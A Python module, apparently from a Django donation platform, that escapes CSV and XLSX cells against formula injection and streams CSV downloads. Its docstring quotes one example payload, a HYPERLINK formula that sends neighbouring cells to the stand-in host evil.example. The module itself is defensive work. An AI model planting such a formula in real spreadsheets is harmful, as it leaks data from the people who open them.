"""Cells of the CSV and XLSX files the platform hands out (exports, open data, reports).

A text cell that starts with = + - @ (or a tab or carriage return before one) is run as a formula
by Excel, LibreOffice and Numbers when the file is opened: a donor named
`=HYPERLINK("http://evil.example/?"&A1)` would send the neighbouring cells away. Such text is
written with a leading apostrophe, as OWASP advises for CSV injection; numbers stay numbers.

An XLSX cell cannot hold most ASCII control characters (openpyxl refuses the whole file), yet a
donor may type one into a form: in a workbook each becomes U+FFFD, the replacement character.
"""

import csv
from collections.abc import Iterable

from django.http import StreamingHttpResponse
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_text(value, *, xlsx: bool = False):
    """`value` as a spreadsheet cell that is never run as a formula."""
    if not isinstance(value, str):
        return value
    if xlsx:
        value = ILLEGAL_CHARACTERS_RE.sub("\ufffd", value)
    if value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def spreadsheet_row(values, *, xlsx: bool = False) -> list:
    return [spreadsheet_text(value, xlsx=xlsx) for value in values]


class _Echo:
    """A file-like object that hands back what csv.writer writes, so rows can be streamed."""

    def write(self, value):
        return value


def streamed_csv(rows: Iterable[list], *, filename: str) -> StreamingHttpResponse:
    """A CSV download of `rows` (the header first), streamed so memory stays flat however many
    rows there are; every text cell is written so that no spreadsheet runs it as a formula."""
    writer = csv.writer(_Echo())
    response = StreamingHttpResponse(
        (writer.writerow(spreadsheet_row(row)) for row in rows),
        content_type="text/csv; charset=utf-8",
    )
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
